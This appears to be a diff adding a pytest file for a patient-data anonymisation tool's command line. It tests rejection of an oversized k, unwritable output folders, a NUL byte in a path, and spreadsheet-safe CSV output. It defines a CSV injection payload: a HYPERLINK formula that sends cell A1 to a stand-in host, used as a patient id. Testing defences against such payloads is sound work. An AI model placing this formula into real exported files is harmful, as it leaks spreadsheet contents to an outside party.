@@ -1,0 +1,80 @@
+"""Issue 40's low findings on the command line, each reproduced first: a huge --k, an output folder that
+cannot be written, and identifying ids written raw into CSV outputs a spreadsheet would evaluate."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from engine.commands.cli import main
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
+
+
+def _cohort(tmp_path: Path) -> tuple[Path, Path]:
+    """A small population whose first patient's id is a spreadsheet formula; every patient unique."""
+    rows = [(FORMULA, "401.9", 1), (FORMULA, "250.00", 1)]
+    rows += [(f"P{i}", f"{300 + i}.0", 1) for i in range(6)]
+    events = tmp_path / "events.csv"
+    pd.DataFrame(rows, columns=["patient_id", "code", "visit"]).to_csv(events, index=False)
+    cohort = tmp_path / "cohort.csv"
+    pd.DataFrame({"patient_id": [FORMULA, "P0", "P1"]}).to_csv(cohort, index=False)
+    return events, cohort
+
+
+def _ids(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as f:
+        return [row["patient_id"] for row in csv.DictReader(f)]
+
+
+@pytest.mark.parametrize("command", ["risk", "anonymize gccens", "anonymize generalize", "study new"])
+def test_a_huge_k_is_refused_by_name(tmp_path: Path, command: str, capsys) -> None:
+    events, cohort = _cohort(tmp_path)
+    argv = [*command.split(), "--events", str(events), "--cohort", str(cohort)]
+    if command == "study new":
+        argv = ["study", "new", str(tmp_path / "s.json"), *argv[2:], "--scope", "cohort"]
+        argv += ["--knowledge", "single_visit"]
+    elif command == "risk":
+        argv += ["--scope", "cohort", "--knowledge", "single_visit", "--out", str(tmp_path / "r.csv")]
+    else:
+        argv += ["--out", str(tmp_path / "r.csv")]
+    with pytest.raises(SystemExit) as exit_:
+        main([*argv, "--k", "99999999999999999999"])
+    assert exit_.value.code == 2
+    assert "k must be a whole number from 1 to 1,000,000" in capsys.readouterr().err
+
+
+def test_an_output_folder_that_cannot_be_written_is_named(tmp_path: Path, capsys) -> None:
+    events, cohort = _cohort(tmp_path)
+    # /proc takes no new file, even for root (a chmod 555 folder would not stop root)
+    base = ["risk", "--events", str(events), "--cohort", str(cohort), "--scope", "cohort"]
+    base += ["--knowledge", "single_visit", "--k", "2"]
+    assert main([*base, "--out", "/proc/cohortshield-risk.csv"]) == 2
+    assert "--out /proc/cohortshield-risk.csv: cannot write in the folder '/proc'" in capsys.readouterr().err
+    out = tmp_path / "r.csv"
+    assert main([*base, "--out", str(out), "--explain", "/proc/x.csv"]) == 2
+    assert "--explain /proc/x.csv: cannot write" in capsys.readouterr().err
+    assert not out.exists()  # refused before any work
+
+
+def test_a_nul_byte_in_a_path_is_named(tmp_path: Path, capsys) -> None:
+    events, cohort = _cohort(tmp_path)
+    argv = ["risk", "--events", str(events), "--cohort", str(cohort), "--scope", "cohort"]
+    argv += ["--knowledge", "single_visit", "--k", "2", "--out", str(tmp_path / "r\x00.csv")]
+    assert main(argv) == 2
+    assert "--out: the path" in capsys.readouterr().err
+
+
+def test_risk_outputs_are_spreadsheet_safe(tmp_path: Path) -> None:
+    events, cohort = _cohort(tmp_path)
+    out, explain = tmp_path / "r.csv", tmp_path / "explain.csv"
+    argv = ["risk", "--events", str(events), "--cohort", str(cohort), "--scope", "cohort"]
+    argv += ["--knowledge", "single_visit", "--k", "2", "--out", str(out), "--explain", str(explain)]
+    assert main(argv) == 0
+    for path in (out, explain):
+        ids = _ids(path)
+        assert "'" + FORMULA in ids, path.name
+        assert not any(i.startswith("=") for i in ids), path.name
